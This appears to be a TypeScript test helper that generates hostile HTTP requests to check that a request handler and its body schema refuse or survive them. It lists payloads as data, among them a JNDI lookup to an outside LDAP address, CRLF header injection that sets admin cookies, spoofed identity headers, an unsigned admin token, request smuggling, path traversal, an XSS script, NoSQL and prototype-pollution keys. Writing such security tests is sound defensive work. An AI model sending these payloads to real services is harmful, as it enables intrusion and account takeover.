import { type HttpRequestOptions, httpEvent } from '../events/http.ts';
import type { Attack } from './hostile.ts';

type Form = NonNullable<HttpRequestOptions['form']>;
type Trick = readonly [name: string, request: HttpRequestOptions];

/** Tricks with headers, query, cookies and content types. `refused` are those that a schema for the body must not survive. */
export function requestAttacks(form: Form, valid: unknown): readonly Attack[] {
  const attack =
    (mustRefuse: boolean, kind: Attack['kind']) =>
    ([name, request]: Trick): Attack => ({
      kind,
      name,
      event: httpEvent({ form, method: 'POST', body: valid, ...request }),
      mustRefuse,
    });
  return [
    ...TYPES.map(([name, headers]): Trick => [name, { headers }]).map(attack(true, 'header')),
    ...HEADERS.map(([name, headers]): Trick => [name, { headers }]).map(attack(false, 'header')),
    ...OTHERS.map(attack(false, 'header')),
  ];
}

const TYPES: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  ['another type', { 'content-type': 'text/plain' }],
  ['two types', { 'content-type': 'application/json, text/html' }],
  ['XML', { 'content-type': 'application/xml' }],
  ['a form', { 'content-type': 'application/x-www-form-urlencoded' }],
  ['a multipart form', { 'content-type': 'multipart/form-data; boundary=a' }],
  ['UTF-7', { 'content-type': 'application/json; charset=utf-7' }],
  ['UTF-16', { 'content-type': 'application/json;charset="utf-16le"' }],
  ['EBCDIC', { 'content-type': 'application/json; charset=ibm037' }],
  ['a type with a line break', { 'content-type': 'application/json\r\nx: y' }],
  ['serialized objects', { 'content-type': 'application/x-java-serialized-object' }],
  ['packed in what nobody unpacks', { 'content-encoding': 'compress' }],
  ['packed twice', { 'content-encoding': 'gzip, gzip' }],
  ['a type that is a prototype’s name', { 'content-type': '__proto__' }],
];

const HEADERS: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  ['an address of its own', { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' }],
  ['another host', { host: 'evil.example', 'x-forwarded-host': 'evil.example' }],
  ['another method', { 'x-http-method-override': 'DELETE' }],
  ['another path', { 'x-original-url': '/admin', 'x-rewrite-url': '/admin' }],
  ['another user', { 'x-user': 'admin', 'x-amzn-oidc-identity': 'admin', 'remote-user': 'admin' }],
  ['a line break', { 'x-note': 'a\r\nset-cookie: admin=1' }],
  ['a name with a line break', { 'x-a\r\nset-cookie': 'admin=1' }],
  ['a lookup', { 'user-agent': '${jndi:ldap://203.0.113.66/a}' }],
  ['a long value', { 'x-note': 'A'.repeat(100_000) }],
  ['a prototype’s name', JSON.parse('{"__proto__":"a","constructor":"b"}')],
  [
    'a trace that is none',
    {
      traceparent: `00-${'0'.repeat(32)}-${'0'.repeat(16)}-zz`,
      'x-amzn-trace-id': 'Root=1;Root=2',
    },
  ],
  ['a correlation with a line break', { 'x-correlation-id': 'a\n{"level":"INFO"}' }],
  ['a depth that is none', { 'x-postern-depth': '-1e9' }],
  ['two spellings of a name', { Authorization: 'Bearer a', authorization: 'Bearer b' }],
  ['two lengths', { 'content-length': '0', 'transfer-encoding': 'chunked' }],
  [
    'a token without a signature',
    { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.' },
  ],
  ['a script as the language', { 'accept-language': '"><script>alert(1)</script>' }],
  ['all ranges', { range: `bytes=${'0-,'.repeat(1000)}` }],
];

const OTHERS: readonly Trick[] = [
  [
    'a prototype’s name in the query',
    { query: JSON.parse('{"__proto__":"a","constructor[prototype]":"b"}') },
  ],
  ['a parameter twice', { query: { id: ['A-1', 'A-2'] } }],
  ['a parameter like a list', { query: { 'id[]': 'A-1', 'id[$ne]': '' } }],
  [
    '1,000 parameters',
    { query: Object.fromEntries(Array.from({ length: 1000 }, (_, at) => [`a${at}`, 'b'])) },
  ],
  ['a line break in the query', { query: { id: 'A-1\r\nset-cookie: a=b' } }],
  ['a prototype’s name as a cookie', { cookies: JSON.parse('{"__proto__":"a"}') }],
  ['a cookie in a cookie', { cookies: { a: 'b; admin=1' } }],
  ['a path that climbs', { path: '/orders/../../admin' }],
  ['a path that climbs, encoded', { path: '/orders/%2e%2e%2fadmin', params: { id: '../admin' } }],
  ['a path with a zero byte', { path: '/orders/a\u0000.png' }],
  ['a long path', { path: `/${'a'.repeat(100_000)}` }],
  ['a method that is none', { method: 'G\r\nET' }],
  ['a prototype’s name as a parameter of the path', { params: JSON.parse('{"__proto__":"a"}') }],
];
